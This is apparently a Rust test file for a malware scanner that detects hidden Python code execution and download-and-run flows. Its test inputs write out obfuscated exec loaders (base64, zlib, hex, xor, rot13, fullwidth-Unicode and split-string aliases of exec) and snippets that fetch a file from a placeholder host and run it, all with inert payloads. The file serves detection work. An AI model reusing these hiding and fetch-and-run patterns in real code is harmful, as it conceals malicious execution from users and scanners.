//! Each hiding technique, built inert at test time; and honest code that must stay quiet.

use super::*;
use fold::rot13;

fn hidden(src: &str) -> Vec<(String, Vec<&'static str>, String)> {
    analyse(src, Want::default())
        .hidden
        .into_iter()
        .map(|h| (h.executor, h.techniques, h.code))
        .collect()
}

fn b64(s: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

const CODE: &str = "import os; print(os.environ)";

#[test]
fn techniques_are_unfolded_to_the_code_they_run() {
    let zlib_b64 = {
        use std::io::Write;
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(CODE.as_bytes()).unwrap();
        b64_bytes(&e.finish().unwrap())
    };
    let hex: String = CODE.bytes().map(|b| format!("{b:02x}")).collect();
    let chrs: Vec<String> = CODE.bytes().map(|b| b.to_string()).collect();
    let reversed: String = CODE.chars().rev().collect();
    let xored: Vec<String> = CODE.bytes().map(|b| (b ^ 42).to_string()).collect();
    let cases: Vec<(String, &[&str])> = vec![
        (
            format!("import base64\nexec(base64.b64decode('{}'))\n", b64(CODE)),
            &["base64"],
        ),
        (
            format!(
                "from base64 import b64decode as d\nexec(d('{}').decode())\n",
                b64(CODE)
            ),
            &["base64"],
        ),
        (
            format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{zlib_b64}')))\n"),
            &["base64", "zlib"],
        ),
        (format!("exec(bytes.fromhex('{hex}'))\n"), &["hex"]),
        (
            format!("exec(''.join(map(chr, [{}])))\n", chrs.join(",")),
            &["chr"],
        ),
        (
            format!("exec(''.join([chr(c) for c in [{}]]))\n", chrs.join(",")),
            &["chr"],
        ),
        (format!("exec('{reversed}'[::-1])\n"), &["reverse"]),
        (
            format!(
                "import codecs\nexec(codecs.decode('{}', 'rot13'))\n",
                rot13(CODE)
            ),
            &["rot13"],
        ),
        (
            format!(
                "k = 42\nexec(bytes([b ^ k for b in [{}]]))\n",
                xored.join(",")
            ),
            &["byte-list", "xor"],
        ),
        // Through aliases and lookups of the executor itself.
        (
            format!(
                "import base64\nb = exec\nb(base64.b64decode('{}'))\n",
                b64(CODE)
            ),
            &["base64"],
        ),
        (
            format!(
                "import base64, builtins\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode('{}'))\n",
                b64(CODE)
            ),
            &["base64"],
        ),
        (
            format!(
                "import base64\nglobals()['exec'](base64.b64decode('{}'))\n",
                b64(CODE)
            ),
            &["base64"],
        ),
        (
            format!(
                "import base64\n__builtins__.__dict__['exec'](base64.b64decode('{}'))\n",
                b64(CODE)
            ),
            &["base64"],
        ),
        (
            format!(
                "m = __import__('ba' + 'se64')\nexec(m.b64decode('{}'))\n",
                b64(CODE)
            ),
            &["base64"],
        ),
        (
            format!(
                "import importlib\nm = importlib.import_module('base64')\neval(compile(m.b64decode('{}'), '<s>', 'exec'))\n",
                b64(CODE)
            ),
            &["base64"],
        ),
        // Escapes spelling the code, aliases by unpacking, namespace lookups.
        (
            format!(
                "exec(\"{}\")\n",
                CODE.bytes()
                    .map(|b| format!("\\x{b:02x}"))
                    .collect::<String>()
            ),
            &["escapes"],
        ),
        (
            format!(
                "import base64\nA, B = exec, str\nA(base64.b64decode('{}'))\n",
                b64(CODE)
            ),
            &["base64"],
        ),
        (
            format!(
                "import base64\nglobals()['__builtins__'].get('exec')(base64.b64decode('{}'))\n",
                b64(CODE)
            ),
            &["base64"],
        ),
        // An executor resolved from hidden text, then called (obfuscators do this).
        (
            format!(
                "import base64\nE = eval(base64.b64decode('ZXZhbA==').decode())\nE(base64.b64decode('{}'))\n",
                b64(CODE)
            ),
            &["base64"],
        ),
        // Python 2's exec statement.
        (
            format!("import base64\nexec base64.b64decode('{}')\n", b64(CODE)),
            &["base64"],
        ),
        // A payload assigned first, run later inside a function.
        (
            format!(
                "import base64\nP = '{}'\ndef run():\n    exec(base64.b64decode(P))\n",
                b64(CODE)
            ),
            &["base64"],
        ),
    ];
    for (src, want) in cases {
        let got = hidden(&src);
        // The payload, once; an executor resolved from hidden text may be
        // reported beside it.
        let payload: Vec<_> = got.iter().filter(|h| h.2 == CODE).collect();
        assert_eq!(payload.len(), 1, "{src}\n{got:?}");
        for w in want {
            assert!(payload[0].1.contains(w), "{src}: {:?}", payload[0].1);
        }
        assert!(
            got.iter().all(|h| h.2 == CODE || h.2 == "eval"),
            "{src}\n{got:?}"
        );
    }
}

#[test]
fn honest_code_is_quiet() {
    for src in [
        // A plain literal is not hidden.
        "exec('x = 1')\n",
        // Unknown data: nothing to fold.
        "exec(open('setup_helpers.py').read())\n",
        "import base64\ndata = base64.b64decode(payload)\n",
        // Decoding without running it.
        "import base64\nICON = base64.b64decode('aGVsbG8=')\n",
        // Code generation from a template with a variable part.
        "exec('def f(): return %s' % value)\n",
        "",
        "def f(:\n",
    ] {
        assert_eq!(hidden(src), vec![], "{src}");
    }
}

#[test]
fn caps_and_broken_input_never_panic() {
    assert!(
        analyse(&"(".repeat(100_000), Want::default())
            .skipped
            .is_some()
            || analyse(&"(".repeat(100_000), Want::default())
                .hidden
                .is_empty()
    );
    let a = analyse(
        &format!("exec({})", "'a'+".repeat(50_000) + "'a'"),
        Want::default(),
    );
    assert!(a.skipped.is_some() || a.hidden.is_empty());
    // Nested calls and comprehensions fold within a budget, not exponentially.
    let nested = format!(
        "import base64\nexec({}'YQ=='{})\n",
        "base64.b64decode(bytes(str(".repeat(40),
        ")))".repeat(40)
    );
    let _ = analyse(&nested, Want::default());
    let comps = format!(
        "exec(''.join({}'ab'{}))\n",
        "[c for c in ".repeat(30),
        "]".repeat(30)
    );
    let _ = analyse(&comps, Want::default());
    // A huge repetition is not built.
    assert_eq!(hidden("exec('a' * 10**12)\n"), vec![]);
    assert_eq!(hidden("exec(chr(99999999999))\n"), vec![]);
}

fn b64_bytes(b: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(b)
}

fn flows_of(src: &str) -> Vec<(String, &'static str)> {
    analyse(src, Want::default())
        .flows
        .into_iter()
        .map(|f| (f.runner, f.kind))
        .collect()
}

#[test]
fn network_data_that_reaches_a_runner_is_a_flow() {
    let cases: &[(&str, (&str, &str))] = &[
        (
            "import requests, subprocess, os\nr = requests.get('https://x.example/a.exe')\np = os.path.join(os.getenv('TEMP'), 'a.exe')\nwith open(p, 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen([p])\n",
            ("subprocess.Popen", "file"),
        ),
        (
            "import urllib.request, os\ndata = urllib.request.urlopen(URL).read()\nopen('/tmp/x', 'wb').write(data)\nos.system('chmod +x /tmp/x && /tmp/x')\n",
            ("os.system", "file"),
        ),
        (
            "from urllib.request import urlretrieve\nimport os\ndef go():\n    path = 'C:/Users/Public/u.exe'\n    urlretrieve(URL, path)\n    os.startfile(path)\n",
            ("os.startfile", "file"),
        ),
        (
            "import os, requests\nout = os.path.expanduser('~/.cache/u')\nf = open(out, 'wb')\nf.write(requests.get(U).content)\nf.close()\nos.system(f'chmod +x {out}; {out} &')\n",
            ("os.system", "file"),
        ),
        (
            "import requests\nexec(requests.get('https://x.example/p.py').text)\n",
            ("builtins.exec", "code"),
        ),
        (
            "from urllib.request import urlopen\nimport threading\ng = {}\nthreading.Thread(target=exec, args=(urlopen(U).read(), g)).start()\n",
            ("threading.Thread(target=exec)", "code"),
        ),
    ];
    for (src, want) in cases {
        let got = flows_of(src);
        assert!(
            got.iter().any(|(r, k)| r == want.0 && *k == want.1),
            "{src}\n{got:?}"
        );
    }
}

#[test]
fn downloads_that_are_never_run_are_not_flows() {
    for src in [
        // A build script fetching a source archive and extracting it.
        "import urllib.request, tarfile, subprocess\ndata = urllib.request.urlopen(URL).read()\nopen('openblas.tar.gz', 'wb').write(data)\ntarfile.open('openblas.tar.gz').extractall('build')\nsubprocess.check_call(['make', '-C', 'build'])\n",
        // An SDK posting and reading JSON.
        "import requests\nr = requests.post(API, json=payload)\nresult = r.json()\nprint(result)\n",
        // Running a local tool, unrelated to a download elsewhere.
        "import subprocess, requests\nrequests.get(URL)\nsubprocess.run(['git', 'status'])\n",
    ] {
        assert_eq!(flows_of(src), vec![], "{src}");
    }
}

#[test]
fn chains_just_under_the_cap_are_analysed_without_overflow() {
    for src in [
        format!("x = a{}\nexec(x)\n", ".b".repeat(19_000)),
        format!("x = 1{}\nexec(x)\n", "+1".repeat(19_000)),
        format!("x = f{}\nexec(x)\n", "()".repeat(19_000)),
        format!("x = {}1\nexec(x)\n", "not ".repeat(19_000)),
    ] {
        let a = analyse(&src, Want::default());
        assert!(a.skipped.is_none(), "{:?}", a.skipped);
    }
    // Past the cap: not parsed, and said why.
    let a = analyse(
        &format!("x = a{}\nexec(x)\n", ".b".repeat(3_000_000)),
        Want::default(),
    );
    assert_eq!(
        a.skipped,
        Some("a chain of operators longer than the parse cap")
    );
}

/// The one-pass gate says for each word list what a search word by word
/// says, also when words overlap, one list's word holds another's, or an
/// executor name is part of a longer name.
#[test]
fn gates_agree_with_the_word_lists() {
    let mut texts = vec![String::new(), "x = 1\n".to_string()];
    for list in GATE_LISTS {
        for w in list {
            texts.push(format!("a {w} b"));
            for around in [
                "x.{}", "x. {}", "_{}", "{}_", "{}2", "({})", "'{}'", "\u{e9}{}",
            ] {
                texts.push(around.replace("{}", w));
            }
            for other in SINK_WORDS.iter().chain(EXECUTORS).take(6) {
                texts.push(format!("{w}{other}"));
                texts.push(format!("{w} {other}"));
            }
        }
    }
    texts.push("os.environ; requests.post; exec; urlopen; f.write(x)".into());
    texts.push("executor.evaluate(); exec(c)".into());
    texts.push("# \u{ff45}\u{ff58}\u{ff45}\u{ff43} and \u{6ce8}\u{610f}\u{ff08}\u{ff09}".into());
    for t in &texts {
        let expected = Gates {
            hiding: has_word(t, EXECUTORS) || disguised(t.as_bytes()),
            fetching: has_word(t, FETCHERS),
            source: has_word(t, SOURCE_WORDS),
            sink: has_word(t, SINK_WORDS),
            writing: has_word(t, WRITERS),
        };
        assert_eq!(gates(t), expected, "{t:?}");
    }
}

/// The executor gate opens on the names a call to `exec` or `eval` is
/// resolved through, and not on longer names or `compile` alone.
#[test]
fn the_executor_gate_opens_on_names_that_reach_an_executor() {
    for open in [
        "exec(code)",
        "eval (expr)",
        "model.eval()",
        "exec \"print(1)\"",
        "run = exec",
        "getattr(self, name)(x)",
        "import builtins as b",
        "from builtins import *",
        "globals()['ex' + 'ec'](c)",
        "locals()[n](c)",
        "vars()[n](c)",
        "os.__dict__[k]",
        "__import__('snitliub'[::-1])",
        "importlib.import_module(m)",
        "from importlib import import_module",
        "d = {'exec': 1}",
        "\u{e9}exec(c)",
        "\u{ff45}\u{ff58}\u{ff45}\u{ff43}(c)",
        "import \u{ff42}uiltins as b",
    ] {
        assert!(gates(open).hiding, "{open:?}");
    }
    for shut in [
        "cursor.execute(q)",
        "ast.literal_eval(s)",
        "re.compile(p)",
        "evaluate(x); executable = sys.executable",
        "env_vars = {}; myglobals = 1; getattribute(x)",
        "# \u{6ce8}\u{610f}\u{ff08}\u{ff0c}\u{ff09} caf\u{e9}",
    ] {
        assert!(!gates(shut).hiding, "{shut:?}");
    }
    // The boundary rule is the executor list's: no other list shares a word.
    for list in &GATE_LISTS[1..] {
        assert!(list.iter().all(|w| !EXECUTORS.contains(w)), "{list:?}");
    }
}

/// Ways to `exec` that a word search of the bytes missed when the gate was
/// first narrowed (a review found them): through any module's `getattr` or
/// `__dict__`, `importlib` reached by a computed name, and names written in
/// characters Python reads as ASCII. Each opens the gate, and the hidden
/// code is found.
#[test]
fn hidden_code_reached_through_any_module_or_disguised_names_is_found() {
    let p = format!("base64.b64decode('{}')", b64("import os; os.system('id')"));
    for src in [
        format!(
            "import importlib, base64\ngetattr(getattr(importlib, 'import_' + 'module')('built' + 'ins'), 'ex' + 'ec')({p})\n"
        ),
        format!(
            "import importlib, base64\nb = importlib.__dict__['import_' + 'module']('built' + 'ins')\nb.exec({p})\n"
        ),
        format!("import os, base64\nos.__dict__['__built' + 'ins__']['ex' + 'ec']({p})\n"),
        format!(
            "import os, base64\ngetattr(os, '__di' + 'ct__')['__built' + 'ins__']['ev' + 'al']({p}.decode())\n"
        ),
        format!("import \u{ff42}uiltins as b, base64\nb.exec({p})\n"),
        format!("import base64\n\u{ff45}\u{ff58}\u{ff45}\u{ff43}({p})\n"),
        format!("import base64\ncursor.execute(q)\n\u{ff45}xec({p})\n"),
        format!("import base64\n\u{ff47}lobals()['ex' + 'ec']({p})\n"),
        format!(
            "from importlib import __dict__ as d\nimport base64\nd['import_' + 'module']('built' + 'ins').exec({p})\n"
        ),
    ] {
        assert!(gates(&src).hiding, "{src}");
        assert!(!analyse(&src, Want::default()).hidden.is_empty(), "{src}");
        // The rules' literal pass opens the same gate.
        let rules = crate::scan::rules::rules().unwrap();
        assert!(
            rules.scan_gated(src.as_bytes(), 64).1 == gates(&src),
            "{src}"
        );
    }
}

/// A file that writes is parsed for the code it writes, whatever else it
/// has; one that does not write is not parsed for it.
#[test]
fn a_write_opens_the_staged_code_pass() {
    let src = "code = 'import os' + chr(10) + 'os.system(\"id\")'\nopen('x.py', 'w').write(code)\n";
    assert!(!gates(src).hiding && gates(src).writing);
    assert_eq!(analyse(src, Want::default()).staged.len(), 1);
    assert!(analyse("x = 1\n", Want::default()).staged.is_empty());
}

#[test]
fn files_run_as_code_are_found_however_they_are_read() {
    let paths = |src: &str| -> Vec<(String, String)> {
        run_files(src)
            .into_iter()
            .map(|r| (r.runner, r.path))
            .collect()
    };
    let exec = "builtins.exec".to_string();
    assert_eq!(
        paths("exec(open('README.txt').read())\n"),
        vec![(exec.clone(), "README.txt".into())]
    );
    assert_eq!(
        paths(
            "import os\nhere = os.path.dirname(__file__)\nexec(compile(open(os.path.join(here, 'data', 'x.cfg')).read(), 'x', 'exec'))\n"
        ),
        vec![(exec.clone(), "x.cfg".into())]
    );
    assert_eq!(
        paths("from pathlib import Path\ncode = Path('payload.dat').read_text()\nexec(code)\n"),
        vec![(exec.clone(), "payload.dat".into())]
    );
    assert_eq!(
        paths("with open('notes.md') as f:\n    eval(f.read())\n"),
        vec![("builtins.eval".into(), "notes.md".into())]
    );
    assert_eq!(
        paths("import runpy\nrunpy.run_path('tools/run.txt')\nexecfile('b.txt')\n"),
        vec![
            ("runpy.run_path".into(), "tools/run.txt".into()),
            ("builtins.execfile".into(), "b.txt".into())
        ]
    );
    // Reading a file is not running it; running a literal is not a file.
    assert!(paths("data = open('README.txt').read()\nprint(data)\nexec('x = 1')\n").is_empty());
}
